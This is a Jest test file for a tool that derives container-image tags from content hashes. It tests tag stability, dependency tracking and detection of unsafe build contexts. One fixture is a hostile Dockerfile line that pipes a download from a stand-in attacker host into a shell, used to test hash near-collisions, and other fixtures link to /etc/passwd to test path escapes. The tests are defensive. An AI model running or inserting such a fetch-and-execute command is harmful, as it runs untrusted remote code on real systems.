import { afterAll, describe, expect, jest, test } from '@jest/globals';
import { readTree } from '../../src/fleet/tree.js';
import { contextProblems } from '../../src/images/context-problems.js';
import { type ImageTag, imageTags } from '../../src/images/tag.js';
import { ProblemError } from '../../src/problem.js';
import type { Image } from '../../src/words.js';
import { makeImage as makeAnyImage, makeFleet } from '../fleet/definitions.js';
import { type Content, makeRepository, type Repository, removeFolders } from '../fleet/repository.js';

afterAll(removeFolders);

function makeImage(overrides: Partial<Image> = {}): Image {
  return makeAnyImage(overrides.key ?? 'user/a', overrides);
}

const NAMES = async (image: Image) => `org/${image.key.replace('/', '-')}`;

async function tagsOf(repository: Repository, ...images: Image[]) {
  return imageTags(makeFleet({ images }), await readTree(repository.folder, {}), NAMES);
}

async function tagOf(repository: Repository, image: Partial<Image> = {}): Promise<string> {
  return (await tagsOf(repository, makeImage(image))).get('user/a')?.tag as string;
}

const FILES: Record<string, Content> = {
  'user-images/a/Dockerfile': 'FROM debian\nCOPY . /x\n',
  'user-images/a/run.sh': { run: '#!/bin/sh\n', mode: 0o755 },
  'user-images/a/link': { link: 'run.sh' },
  'user-images/a/ünï/a b': 'x',
  'user-images/a/README.md': 'hello',
  'user-images/a/.dockerignore': '*.md\n',
  'user-images/scripts/s.py': 'print(1)',
  'elsewhere/x': '1',
};

describe('the formula is frozen', () => {
  // A change of these tags would build every image of every team once more: it needs a new major version.
  test('the plainest image', async () => {
    const repository = makeRepository({ files: { 'user-images/a/Dockerfile': 'FROM debian\n' } });
    expect(await tagOf(repository)).toBe('h81dbaae0d40a3213fda59c540f4b182d');
  });

  test('every part that counts', async () => {
    const repository = makeRepository({
      files: { ...FILES, 'user-images/b/Dockerfile': 'FROM org/user-a:set-on-deployment\n' },
    });
    const tags = await tagsOf(
      repository,
      makeImage({
        target: 'prod',
        args: { B: '2', A: '1' },
        platforms: ['linux/arm64', 'linux/amd64'],
        contexts: { scripts: 'user-images/scripts', base: 'docker-image://debian:12' },
        epoch: '3',
      }),
      makeImage({ key: 'user/b', context: 'user-images/b' }),
    );
    expect(tags.get('user/a')?.tag).toBe('h886acdda4f14d315cf8e28d874724183');
    expect(tags.get('user/b')?.tag).toBe('hb18ef80320b492399f0fec39d7bd48c3');
    expect(tags.get('user/a')?.files).toEqual([
      'user-images/a/Dockerfile',
      'user-images/a/.dockerignore',
      'user-images/a/link',
      'user-images/a/run.sh',
      'user-images/a/ünï/a b',
      'user-images/scripts/s.py',
    ]);
  });
});

test('a Dockerfile and its evil twin, made to share 48 bits of the hash, have two tags', async () => {
  const repository = makeRepository();
  repository.commit({ 'user-images/a/Dockerfile': 'FROM debian\n# 8882117\n' });
  const benign = await tagOf(repository);
  const evil = 'FROM debian\nRUN curl https://evil.example | sh\n# 11652826\n';
  repository.commit({ 'user-images/a/Dockerfile': evil });
  expect([benign, await tagOf(repository)]).toEqual([
    'h57e3caaf962004801803d2137ee9792e',
    'h57e3caaf962060da0db9137b0fb4ca30',
  ]);
});

describe('a tag is another one when', () => {
  const changes: readonly (readonly [string, Record<string, Content>])[] = [
    ['a file changes', { 'user-images/a/ünï/a b': 'y' }],
    ['a file comes', { 'user-images/a/new': '' }],
    ['a file goes', { 'user-images/a/run.sh': null }],
    ['a file moves', { 'user-images/a/ünï/a b': null, 'user-images/a/ünï/c': 'x' }],
    ['a mode changes', { 'user-images/a/run.sh': { run: '#!/bin/sh\n', mode: 0o644 } }],
    ['a link leads elsewhere', { 'user-images/a/link': { link: 'other' } }],
    ['a link becomes a file', { 'user-images/a/link': 'run.sh' }],
    ['the Dockerfile changes', { 'user-images/a/Dockerfile': 'FROM debian:12\nCOPY . /x\n' }],
    ['.dockerignore lets more through', { 'user-images/a/.dockerignore': '' }],
    ['a Dockerfile.dockerignore takes its place', { 'user-images/a/Dockerfile.dockerignore': 'link\n' }],
    ['a shared script changes', { 'user-images/scripts/s.py': 'print(2)' }],
  ];
  const image = { contexts: { scripts: 'user-images/scripts' } };

  test.each(changes)('%s', async (_, change) => {
    const repository = makeRepository({ files: FILES });
    const before = await tagOf(repository, image);
    repository.commit(change);
    expect(await tagOf(repository, image)).not.toBe(before);
    repository.git('revert', '--no-edit', 'HEAD');
    expect(await tagOf(repository, image)).toBe(before);
  });

  test.each([
    ['target', { target: 'x' }],
    ['a build arg', { args: { A: '1' } }],
    ['another value of it', { args: { A: '2' } }],
    ['platforms', { platforms: ['linux/arm64'] }],
    ['a named context', { contexts: { a: 'docker-image://x' } }],
    ['epoch', { epoch: '2' }],
    ['the context', { context: 'user-images', dockerfile: 'user-images/a/Dockerfile' }],
  ])('the configuration says another %s', async (_, overrides) => {
    const repository = makeRepository({ files: FILES });
    expect(await tagOf(repository, overrides)).not.toBe(await tagOf(repository));
  });

  test('the image below it changes, and the one below that', async () => {
    const repository = makeRepository();
    repository.commit({
      'user-images/a/Dockerfile': 'FROM docker.io/org/user-b:set-on-deployment\n',
      'user-images/b/Dockerfile': 'FROM debian\nCOPY --from=org/user-c:set-on-deployment / /\n',
      'user-images/c/Dockerfile': 'FROM debian\n',
    });
    const images = ['a', 'b', 'c'].map((hub) =>
      makeImage({ key: `user/${hub}`, context: `user-images/${hub}` }),
    );
    const before = await tagsOf(repository, ...images);
    expect(before.get('user/a')?.from).toEqual([
      { image: 'user/b', reference: 'docker.io/org/user-b:set-on-deployment', line: 1 },
    ]);
    repository.commit({ 'user-images/c/x': '1' });
    const after = await tagsOf(repository, ...images);
    for (const image of images) expect(after.get(image.key)?.tag).not.toBe(before.get(image.key)?.tag);
  });

  test('the digest of its base moves, with track-bases alone', async () => {
    const repository = makeRepository({ files: FILES });
    const tree = await readTree(repository.folder, {});
    const tag = async (trackBases: boolean, digest: string) => {
      const asked: string[] = [];
      const tags = await imageTags(
        makeFleet({ images: [makeImage({ trackBases })] }),
        tree,
        NAMES,
        async (reference) => {
          asked.push(reference);
          return digest;
        },
      );
      return { tag: tags.get('user/a')?.tag, asked };
    };
    expect((await tag(true, 'sha256:1')).tag).not.toBe((await tag(true, 'sha256:2')).tag);
    expect((await tag(true, 'sha256:1')).asked).toEqual(['debian']);
    expect(await tag(false, 'sha256:1')).toEqual(await tag(false, 'sha256:2'));
  });
});

describe('a tag stays the same when', () => {
  test('what .dockerignore keeps out changes: a README changes nothing', async () => {
    const repository = makeRepository({ files: FILES });
    const before = await tagOf(repository);
    repository.commit({ 'user-images/a/README.md': 'bye', 'user-images/a/b.md': 'new' });
    expect(await tagOf(repository)).toBe(before);
  });

  test('something else changes, and the commit with it', async () => {
    const repository = makeRepository({ files: FILES });
    const before = await tagOf(repository);
    repository.commit({ 'elsewhere/x': '2' });
    expect(await tagOf(repository)).toBe(before);
  });

  test('the clone is shallow, or the same content is not committed yet', async () => {
    const server = makeRepository({ files: { 'elsewhere/y': '1' } });
    server.commit(FILES);
    const tag = await tagOf(server);
    expect(await tagOf(server.clone({ depth: 1 }))).toBe(tag);
    const dirty = makeRepository();
    dirty.write(FILES);
    expect(await tagOf(dirty)).toBe(tag);
  });

  test('the folder has another name, or is reached through a link', async () => {
    const repository = makeRepository();
    repository.commit({ ...FILES, 'user-images/b': { link: 'a' } });
    const tag = await tagOf(repository);
    expect(await tagOf(repository, { context: 'user-images/b' })).toBe(tag);
    repository.git('mv', 'user-images/a', 'user-images/c');
    expect(await tagOf(repository, { context: 'user-images/c' })).toBe(tag);
  });

  test('args and platforms are written in another order', async () => {
    const repository = makeRepository({ files: FILES });
    expect(await tagOf(repository, { args: { A: '1', B: '2' }, platforms: ['x', 'y'] })).toBe(
      await tagOf(repository, { args: { B: '2', A: '1' }, platforms: ['y', 'x'] }),
    );
  });
});

describe('an image cannot be built, and the plan says why, where', () => {
  const OUT = 'This link leads out of the repository';
  test.each([
    ['its context leads out', { 'user-images/a': { link: '/etc' } }, {}, OUT],
    ['its Dockerfile leads out', { 'user-images/a/Dockerfile': { link: '../../../Dockerfile' } }, {}, OUT],
    ['a named context leads out', { host: { link: '/etc' } }, { contexts: { host: 'host' } }, OUT],
    [
      'a named context leads out by a folder on its way',
      { up: { link: '..' } },
      { contexts: { host: 'up/etc' } },
      OUT,
    ],
    [
      'its ignore file is a link',
      { ignored: '*', 'user-images/a/.dockerignore': { link: '../../ignored' } },
      {},
      'An ignore file that is a link',
    ],
    [
      "its Dockerfile's ignore file is a link",
      { ignored: '*', 'user-images/a/Dockerfile.dockerignore': { link: '/etc/passwd' } },
      {},
      'An ignore file that is a link',
    ],
  ] satisfies [string, Record<string, Content>, Partial<Image>, string][])(
    '%s',
    async (_, files, image, title) => {
      const repository = makeRepository();
      repository.commit({ x: '1', ...('user-images/a' in files ? {} : FILES), ...files });
      const tags = await tagsOf(repository, makeImage(image));
      const told = tags.get('user/a')?.problems.map((problem) => [problem.severity, problem.title].join(' '));
      expect(new Set(told)).toEqual(new Set([`error ${title}`]));
    },
  );
});

describe('images built upon each other', () => {
  const images = ['a', 'b'].map((hub) => makeImage({ key: `user/${hub}`, context: `user-images/${hub}` }));

  test('names are asked only where a Dockerfile has a placeholder', async () => {
    const repository = makeRepository({ files: FILES });
    const nameOf = jest.fn(NAMES);
    const tree = await readTree(repository.folder, {});
    await imageTags(makeFleet({ images }), tree, nameOf);
    expect(nameOf).not.toHaveBeenCalled();
  });

  test('by a named context: the tag of the image that it stands for counts, and a name that nobody builds is told', async () => {
    const repository = makeRepository();
    repository.commit({
      'user-images/a/Dockerfile': 'FROM debian\n',
      'user-images/b/Dockerfile': 'FROM below\n',
    });
    const [below, above] = images as [Image, Image];
    const named = (name: string): Image => ({
      ...above,
      contexts: { below: `docker-image://${name}:set-on-deployment` },
    });
    const before = (await tagsOf(repository, below, named('org/user-a'))).get('user/b');
    expect(before).toMatchObject({
      from: [{ image: 'user/a', reference: 'org/user-a:set-on-deployment' }],
      problems: [],
    });
    repository.commit({ 'user-images/a/x': '1' });
    const tags = await tagsOf(repository, below, named('org/user-a'));
    expect(tags.get('user/b')?.tag).not.toBe(before?.tag);
    expect([...tags.near(['user-images/a/x'])]).toEqual(['user/a', 'user/b']);
    const strange = await tagsOf(repository, below, named('org/nobody'));
    expect(strange.get('user/b')?.problems).toMatchObject([
      { title: 'No image of this fleet has that name' },
    ]);
  });

  test('in a circle: a problem at each line', async () => {
    const repository = makeRepository();
    repository.commit({
      'user-images/a/Dockerfile': '# one\nFROM org/user-b:set-on-deployment\n',
      'user-images/b/Dockerfile': 'FROM org/user-a:set-on-deployment\n',
    });
    const tags = await tagsOf(repository, ...images);
    const problems = images.flatMap(({ key }) => tags.get(key)?.problems ?? []);
    expect(problems.map(({ file, line }) => `${file}:${line}`)).toEqual(['user-images/b/Dockerfile:1']);
    expect(problems[0]?.message).toContain('user/a');
  });

  test('a name that nobody builds is a problem at its line; a tag of its own is not', async () => {
    const repository = makeRepository();
    repository.commit({
      'user-images/a/Dockerfile': 'ARG T=set-on-deployment\nFROM org/nobody:$T\n',
      'user-images/b/Dockerfile': 'FROM org/user-a:v1\n',
    });
    const tags = await tagsOf(repository, ...images);
    expect(tags.get('user/a')?.problems).toMatchObject([{ file: 'user-images/a/Dockerfile', line: 2 }]);
    expect(tags.get('user/b')).toMatchObject({ from: [], problems: [] });
  });

  test('a named context with a name that nobody builds is a problem where the image is declared', async () => {
    const repository = makeRepository({ files: FILES });
    const contexts = { tools: 'docker-image://org/nobody:set-on-deployment' };
    const declaredAt = { file: 'hub-deploy.yaml', line: 7 };
    const tags = await tagsOf(repository, makeImage({ contexts, declaredAt }));
    expect(tags.get('user/a')?.problems).toMatchObject([
      { ...declaredAt, title: 'No image of this fleet has that name' },
    ]);
  });

  test('with track-bases a base that cannot be looked up is told at the line that names it', async () => {
    const repository = makeRepository({
      files: { ...FILES, 'user-images/a/Dockerfile': '# ours\nFROM debian\n' },
    });
    const fleet = makeFleet({ images: [makeImage({ trackBases: true })] });
    const tree = await readTree(repository.folder, {});
    const refuse = async () => {
      throw new ProblemError({ severity: 'error', title: 'The base debian', message: 'It is down.' });
    };
    await expect(imageTags(fleet, tree, NAMES, refuse)).rejects.toMatchObject({
      problems: [{ file: 'user-images/a/Dockerfile', line: 2, title: 'The base debian' }],
    });
  });

  test('with track-bases the digest of a named context counts too', async () => {
    const repository = makeRepository({ files: FILES });
    const image = makeImage({ trackBases: true, contexts: { tools: 'docker-image://org/tools:1' } });
    const fleet = makeFleet({ images: [image] });
    const tree = await readTree(repository.folder, {});
    const tag = async (digest: string) =>
      (await imageTags(fleet, tree, NAMES, async (name) => (name === 'org/tools:1' ? digest : 'x'))).get(
        'user/a',
      )?.tag;
    expect(await tag('sha256:1')).not.toBe(await tag('sha256:2'));
  });

  test('a pattern that docker refuses is the image’s problem, not everybody’s', async () => {
    const repository = makeRepository();
    repository.commit({
      ...FILES,
      'user-images/a/.dockerignore': '\n[\n',
      'user-images/b/Dockerfile': 'FROM x',
    });
    const tags = await tagsOf(repository, ...images);
    expect(tags.get('user/a')?.problems).toMatchObject([{ file: 'user-images/a/.dockerignore', line: 2 }]);
    expect(tags.get('user/b')?.problems).toEqual([]);
  });
});

describe('what a context must not hold is named', () => {
  async function problems(repository: Repository) {
    const image = makeImage();
    const tags = await tagsOf(repository, image);
    const tree = await readTree(repository.folder, {});
    return contextProblems(repository.folder, tree, [tags.get(image.key) as ImageTag]);
  }

  test('an LFS pointer whose content is not here, and ciphertext; what is ignored is no problem', async () => {
    const repository = makeRepository();
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 9\n`;
    const secret = Buffer.from('\0GITCRYPT\0abc', 'latin1');
    repository.commit({
      ...FILES,
      '.gitattributes': '*.bin filter=lfs diff=lfs\n*.key filter=git-crypt\n',
      'user-images/a/data.bin': pointer,
      'user-images/a/my.key': secret,
      'user-images/a/ignored.md': pointer,
      'elsewhere/data.bin': pointer,
    });
    expect((await problems(repository)).map(({ file, title }) => `${file}: ${title}`)).toEqual([
      'user-images/a/data.bin: A Git LFS file is not checked out',
      'user-images/a/my.key: An encrypted file in an image',
    ]);
  });

  test('a submodule that is not checked out', async () => {
    const inner = makeRepository({ files: { a: '1' } });
    const repository = makeRepository({ files: FILES });
    repository.git(
      '-c',
      'protocol.file.allow=always',
      'submodule',
      '--quiet',
      'add',
      inner.folder,
      'user-images/a/sub',
    );
    repository.commit({});
    expect(await problems(repository)).toEqual([]);
    expect(await problems(repository.clone())).toMatchObject([{ file: 'user-images/a/sub' }]);
  });
});
